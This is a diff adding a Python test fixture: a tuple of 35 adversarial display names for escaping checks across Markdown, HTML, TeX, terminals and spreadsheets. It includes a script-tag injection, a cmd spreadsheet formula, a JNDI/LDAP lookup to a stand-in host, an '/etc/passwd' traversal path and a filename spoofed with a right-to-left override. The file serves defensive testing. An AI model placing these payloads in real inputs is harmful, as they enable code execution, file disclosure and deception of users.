@@ -1,0 +1,42 @@
+"""Names that mean something to somebody: Markdown, HTML, TeX, terminals, spreadsheets, templates, addresses."""
+
+from __future__ import annotations
+
+NASTY = (
+    "![p](http://evil.example/p.png)",
+    "[here](http://evil.example)",
+    "<img src=http://evil.example/i.png>",
+    "<script>alert(1)</script>",
+    "</script><b>out</b>",
+    "<b>bold</b>",
+    "<br>line",
+    "&lt;i&gt; &amp; &#60;",
+    "a*b*c _d_ `e` ~~f~~",
+    ":red[x] :smile: a:b:c",
+    ":material/home: :streamlit:",
+    "$x^2$ $$y$$ \\alpha",
+    "# head",
+    "1. one",
+    "- item",
+    "> quote",
+    "-> <- -- >= ~=",
+    "http://evil.example/auto www.evil.example me@evil.example",
+    "| a | b |",
+    "=cmd|' /C calc'!A0",
+    "+1+cmd",
+    "-2+3",
+    "@SUM(A1)",
+    "\x1b[31mred\x1b[0m\x07",
+    "gpj\u202eexe\u2066",
+    "%{customdata[9]} %s {x} {{x}}",
+    "100%",
+    "\"quoted\" 'name'",
+    "a (feature 7)",
+    "../../etc/passwd",
+    "${jndi:ldap://evil.example}",
+    "${{ x }} {% y %}",
+    "\\input{evil} 50% #1 & ~ ^",
+    "NaN",
+    "  blank   blanks ",
+)
+"""Thirty-five, all different, in one line each."""
